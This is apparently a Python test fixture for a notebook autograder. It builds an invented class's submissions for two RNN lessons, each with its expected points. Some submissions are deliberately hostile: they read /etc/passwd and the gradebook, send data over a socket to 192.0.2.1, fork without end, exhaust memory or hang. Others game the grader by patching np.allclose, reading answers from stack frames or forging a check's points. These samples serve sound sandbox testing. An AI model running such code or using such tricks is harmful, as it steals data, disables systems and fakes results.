"""An invented class: what each student hands in for lessons 02 and 03, and what it deserves.

Right in several styles, half right, wrong in known ways, broken on the way, and hostile.
"""

import ast
import json
import re
from collections.abc import Iterator
from copy import deepcopy
from dataclasses import dataclass, field

import nbformat
from nbformat import NotebookNode

from autograder.course import Course
from autograder.lesson import Lesson, nbgrader_of
from rnnkit.exercises import find
from rnnkit.exercises.exercise import Exercise

LESSONS = ("02_the_recurrent_cell", "03_backpropagation_through_time")
NAMES = ("Ada", "Bela", "Chen", "Dara", "Emre", "Finn", "Gita", "Hugo", "Ines", "Juri", "Kofi", "Lena", "Mina", "Nico",
         "Olga", "Pia", "Quin", "Rosa", "Sven", "Tara")  # the last two hand in nothing
STUDENTS = dict(enumerate(NAMES, start=4101))
SOLUTION = re.compile(r"^.*### (BEGIN|END) SOLUTION.*\n?", re.MULTILINE)

LOOPS = {
    "rnn_step": """
def rnn_step(x, h, W_x, W_h, b):
    h_next = np.zeros((len(h), len(b)))
    for n in range(len(h)):
        for j in range(len(b)):
            h_next[n, j] = np.tanh(np.dot(x[n], W_x[:, j]) + np.dot(h[n], W_h[:, j]) + b[j])
    return h_next, (x, h, h_next, W_x, W_h)
""",
    "rnn_forward": """
def rnn_forward(x, h0, W_x, W_h, b):
    h = np.zeros((len(x), *h0.shape))
    cache = []
    for t in range(len(x)):
        h[t], c = rnn_step(x[t], h0 if t == 0 else h[t - 1], W_x, W_h, b)
        cache.append(c)
    return h, cache
""",
    "readout": """
def readout(h, W_y, b_y):
    return np.array([[W_y.T @ row + b_y for row in h_t] for h_t in h])
""",
}
WHOLE_ARRAYS = {
    "numerical_gradient": """
def numerical_gradient(f, x, eps=1e-6):
    moves = eps * np.eye(x.size).reshape(-1, *x.shape)
    return np.array([f(x + move) - f(x - move) for move in moves]).reshape(x.shape) / (2 * eps)
""",
    "rnn_step_backward": """
def rnn_step_backward(dh_next, cache):
    x, h, h_next, W_x, W_h = cache
    da = dh_next - dh_next * h_next ** 2
    both = np.concatenate([x, h], axis=1).T @ da
    return da @ W_x.T, da @ W_h.T, both[:x.shape[1]], both[x.shape[1]:], np.ones(len(x)) @ da
""",
    "rnn_backward": """
def rnn_backward(dh, cache):
    dx, back, sums = [], 0, [0, 0, 0]
    for dh_t, kept in zip(dh[::-1], cache[::-1]):
        dx_t, back, *parts = rnn_step_backward(dh_t + back, kept)
        dx.insert(0, dx_t)
        sums = [total + part for total, part in zip(sums, parts)]
    return np.array(dx), back, *sums
""",
}
PREALLOCATED = """
def rnn_forward(x, h0, W_x, W_h, b):
    T, (N, H) = len(x), h0.shape
    h, cache = np.empty((T + 1, N, H)), [None] * T
    h[0] = h0
    for t in range(T):
        h[t + 1], cache[t] = rnn_step(x[t], h[t], W_x, W_h, b)
    return h[1:], cache
"""
CHANGES_ITS_INPUT = """
def readout(h, W_y, b_y):
    h @= np.eye(h.shape[-1])
    h *= 2
    return h @ W_y / 2 + b_y
"""
FRAMES = """
import sys

def rnn_backward(dh, cache):
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
            if isinstance(value, dict) and "dW_h" in value:
                return tuple(value[name] for name in ("dx", "dh0", "dW_x", "dW_h", "db"))
        frame = frame.f_back
    x, h, h_next, W_x, W_h = cache[0]
    return x + 0 * dh[..., :1], h, W_x, W_h, h[0]
"""
READS = """
stolen = []
for path in ("/etc/passwd", {gradebook!r}):
    try:
        stolen.append(open(path, "rb").read())
    except OSError:
        pass
assert not stolen, "the sandbox leaks"
"""
CONNECTS = """
import socket
try:
    socket.create_connection(("192.0.2.1", 80), timeout=1).sendall(b"the answers, please")
except OSError:
    pass
"""
FORKS = """
import os
try:
    while True:
        os.fork()
except OSError:
    pass
"""
EXITS = """
import os

def rnn_backward(dh, cache):
    os._exit(0)
"""
HANGS = """
def rnn_backward(dh, cache):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
"""
HOARDS = """
def rnn_backward(dh, cache):
    hoard = []
    while True:
        hoard.append(np.ones(10 ** 6))
"""
IMPORTS = """
from rnnkit import rnn_backward as theirs

def rnn_backward(dh, cache):
    return theirs(dh, cache)
"""
PATCHES = """
np.allclose = np.array_equal = np.testing.assert_allclose = lambda *arrays, **settings: True
"""
ESSAY = """Every step multiplies by the same matrix, so a nudge of W_h nudges all of its uses at once. Their effects on
the loss add up, as the chain rule says for a variable that enters a function in several places. With = only one of
these terms is left in the end: the loop runs backwards, so it is the term of the first step."""


@dataclass(frozen=True)
class HandedIn:
    """One submission, and what it deserves: points in the order of the lesson's exercises.

    what: it, in a few words. flag: a part of one that it raises, "" where it raises none. essay: whether one waits
    for a person.
    """

    what: str
    data: bytes = field(repr=False)
    points: tuple
    status: str = "judged"
    flag: str = ""
    essay: bool = False
    file: str = ""


def the_class(course: Course) -> dict[str, list[HandedIn]]:
    """Lesson -> the submissions of its students, in the order of STUDENTS."""
    step, back = (Maker(course.lesson(name)) for name in LESSONS)
    return {LESSONS[0]: list(lesson_02(step)), LESSONS[1]: list(lesson_03(back, str(course.folder / "gradebook.db")))}


class Maker:
    """Makes notebooks out of a lesson's student edition."""

    def __init__(self, lesson: Lesson) -> None:
        self.lesson = lesson
        self.model = {cell.metadata.nbgrader.grade_id: SOLUTION.sub("", cell.source)
                      for cell in lesson.instructor.cells if nbgrader_of(cell).get("solution")}
        for essay in lesson.essays:
            del self.model[essay]

    def wrong(self, **mistakes: str) -> dict[str, str]:
        """The model answers, but for each exercise named the reference with the edit of this known mistake."""
        return self.model | {name: mistaken(find(name), mistake) for name, mistake in mistakes.items()}

    def notebook(self, answers: dict[str, str], before: str = "") -> NotebookNode:
        """The student edition with these answers in it; before: what stands at the top of each answer's cell."""
        made = deepcopy(self.lesson.student)
        for cell in made.cells:
            name = nbgrader_of(cell).get("grade_id")
            if name in answers:
                cell.source = (before + answers[name] if name not in self.lesson.essays else answers[name]).strip("\n")
        return made

    def file(self, answers: dict[str, str], before: str = "") -> bytes:
        return as_file(self.notebook(answers, before))

    def handed_in(self, what: str, data: bytes, shares: tuple, status: str = "judged", **more: str | bool) -> HandedIn:
        """shares: of the points of the lesson's exercises, in their order."""
        worth = zip(self.lesson.exercises.values(), shares, strict=True)
        return HandedIn(what, data, tuple(round(points * share, 2) for points, share in worth), status, **more)

    def cell(self, notebook: NotebookNode, name: str) -> NotebookNode:
        return next(cell for cell in notebook.cells if nbgrader_of(cell).get("grade_id") == name)


def mistaken(exercise: Exercise, mistake: str) -> str:
    """The reference's text with the mistake's edit in it, as a student writes: no decorator, no annotations."""
    edit = next(each for each in exercise.misconceptions if each.id == mistake)
    [function] = ast.parse(exercise.text.replace(edit.right, edit.wrong)).body
    function.decorator_list = []
    for argument in function.args.args:
        argument.annotation = None
    return ast.unparse(function)


def as_file(notebook: NotebookNode) -> bytes:
    return json.dumps(notebook, indent=1).encode()


def lesson_02(make: Maker) -> Iterator[HandedIn]:
    right, model = make.file(make.model), make.model
    yield make.handed_in("the model answers", right, (1, 1, 1, 1))
    yield make.handed_in("right, entry by entry in loops", make.file(model | LOOPS), (1, 1, 1, 1))
    made_before = make.file(model | {"rnn_forward": PREALLOCATED})
    yield make.handed_in("right, into arrays made before", made_before, (1, 1, 1, 1))
    changing = make.file(model | {"readout": CHANGES_ITS_INPUT})
    yield make.handed_in("right, but readout changes its input", changing, (1, 1, 1, 0.9))
    yield make.handed_in("no tanh", make.file(make.wrong(rnn_step="no-tanh")), (0, 1, 0, 1))
    yield make.handed_in("W_h transposed", make.file(make.wrong(rnn_step="transposed")), (0, 1, 0, 1))
    yield make.handed_in("every step from h0, last state read", make.file(make.wrong(
        rnn_forward="h0-at-every-step", readout="last-step-only")), (1, 1, 0, 0))
    squeezed = model["readout"].replace("h @ W_y", "np.squeeze(h) @ W_y")
    yield make.handed_in("readout squeezes axes away", make.file(model | {"readout": squeezed}), (1, 1, 1, 0.8))
    yield make.handed_in("rnn_step only", make.file({"rnn_step": model["rnn_step"]}), (1, 0, 0, 0))
    yield make.handed_in("blank", make.file({}), (0, 0, 0, 0))
    broken = model["rnn_forward"].replace("):", ")", 1)
    yield make.handed_in("a syntax error in rnn_forward", make.file(model | {"rnn_forward": broken}), (1, 1, 0, 1))
    yield make.handed_in("half a file", right[: len(right) // 2], (0, 0, 0, 0), "unreadable")
    yield make.handed_in("an empty file", b"", (0, 0, 0, 0), "unreadable")
    twice = make.notebook(model)
    twice.cells.insert(twice.cells.index(make.cell(twice, "rnn_step")), make.cell(twice, "rnn_step"))
    yield make.handed_in("a cell twice", as_file(twice), (1, 1, 1, 1))
    windows = right.replace(b"\\n", b"\\r\\n").replace(b"\n", b"\r\n")
    yield make.handed_in("Windows line ends", windows, (1, 1, 1, 1))
    old = nbformat.convert(make.notebook(model), 3)
    yield make.handed_in("an nbformat of 2014", as_file(old), (1, 1, 1, 1))
    yield make.handed_in("a file of another name", right, (1, 1, 1, 1), file="my homework final (2).ipynb")
    patched = make.file(make.wrong(rnn_step="transposed"), PATCHES)
    yield make.handed_in("patches np.allclose, W_h transposed", patched, (0, 1, 0, 1))


def lesson_03(make: Maker, gradebook: str) -> Iterator[HandedIn]:
    model = make.model
    yield make.handed_in("the model answers, and the essay", make.file(model | {"why-gradients-add": ESSAY}), (1, 1, 1),
                         essay=True)
    yield make.handed_in("right, in whole arrays; no essay", make.file(WHOLE_ARRAYS), (1, 1, 1))
    lost = make.notebook(model)
    for cell in lost.cells:
        cell.metadata = {}
        del cell["id"]
    yield make.handed_in("right, metadata and ids lost", as_file(lost), (1, 1, 1))
    yield make.handed_in("the carry lost", make.file(make.wrong(rnn_backward="carry-lost")), (1, 1, 0))
    yield make.handed_in("the carry lost, too", make.file(make.wrong(rnn_backward="carry-lost")), (1, 1, 0))
    yield make.handed_in("= for +=, one-sided", make.file(make.wrong(
        rnn_backward="only-the-first-step", numerical_gradient="one-sided")), (0, 1, 0.32))
    yield make.handed_in("dW_h transposed", make.file(make.wrong(rnn_step_backward="dW_h-transposed")), (1, 0.72, 0.64))
    one = {"numerical_gradient": model["numerical_gradient"]}
    yield make.handed_in("numerical_gradient only", make.file(one), (1, 0, 0))
    yield make.handed_in("walks the frames for the answer", make.file(model | {"rnn_backward": FRAMES}), (1, 1, 0))
    yield make.handed_in("reads /etc/passwd and the gradebook", make.file(model, READS.format(gradebook=gradebook)),
                         (1, 1, 1), flag="reach a file outside")
    yield make.handed_in("opens a socket", make.file(model, CONNECTS), (1, 1, 1), flag="network")
    yield make.handed_in("forks for ever", make.file(model, FORKS), (1, 1, 1), flag="start a process")
    yield make.handed_in("ends the process", make.file(model | {"rnn_backward": EXITS}), (1, 1, 0))
    yield make.handed_in("an endless loop", make.file(model | {"rnn_backward": HANGS}), (1, 1, 0))
    yield make.handed_in("fills the memory", make.file(model | {"rnn_backward": HOARDS}), (1, 1, 0))
    yield make.handed_in("imports rnnkit's rnn_backward", make.file(model | {"rnn_backward": IMPORTS}), (1, 1, 0))
    forged, worth = make.notebook({}), f"{make.lesson.exercises['rnn_backward']:g}"
    check = make.cell(forged, "check-rnn_backward")
    check.source, check.metadata.nbgrader["points"] = "500.0", 500
    card = "rnn_backward" + f"{worth} of {worth} points".rjust(76)
    check.outputs = [{"output_type": "display_data", "metadata": {}, "data": {"text/plain": card}}]
    yield make.handed_in("edits the check, its points and its card", as_file(forged), (0, 0, 0),
                         flag=f"notebook shows {worth}")
    flood = make.notebook(model, "print('spam ' * 6_000_000)\n")
    make.cell(flood, "rnn_backward").outputs = [
        {"output_type": "stream", "name": "stdout", "text": "spam " * 6_000_000}]
    yield make.handed_in("prints 30 MB", as_file(flood), (1, 1, 1))
